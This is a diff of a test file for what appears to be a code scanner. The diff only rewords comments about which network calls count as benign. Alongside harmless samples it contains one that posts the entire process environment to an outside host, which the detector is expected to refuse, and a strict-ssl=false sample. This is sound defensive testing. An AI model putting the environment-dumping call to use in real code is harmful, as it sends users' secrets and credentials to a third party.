@@ -97,10 +97,10 @@ describe('what is warned of', () => {
 
 it('their honest kin pass', () => {
   for (const [path, text] of [
-    // An answer that is kept and given to a program of its own is data.
+    // A response that is stored and passed to a local program is data.
     ['a.sh', 'R=$(curl -s -F file=@a.mp4 http://localhost:8300/f)\necho "$R" | python3 -m json.tool'],
     ['a.sh', 'R=$(curl -s -d @b.json https://a-x.net/f)\nI=$(echo "$R" | python3 -c "import json")'],
-    // A key goes to the service it belongs to.
+    // A key may be sent to the service that it belongs to.
     [
       'a.js',
       "const axios = require('axios')\nconst { ID, SECRET } = process.env\nawait axios.post('https://zoom.us/oauth/token', qs.stringify({ id: ID, secret: SECRET }))",
@@ -120,7 +120,7 @@ it('their honest kin pass', () => {
     ['a.md', fence('strict-ssl=false', 'ini')],
   ] as const)
     expect(reported(path, text), text).toEqual([])
-  // The whole of it is still refused, by whatever name.
+  // The whole environment is still refused, whatever its name.
   const whole =
     "const axios = require('axios')\nconst all = process.env\nawait axios.post('https://a-x.net/t', all)"
   expect(refusals('a.js', whole)).toEqual(['javascript-keys-sent'])
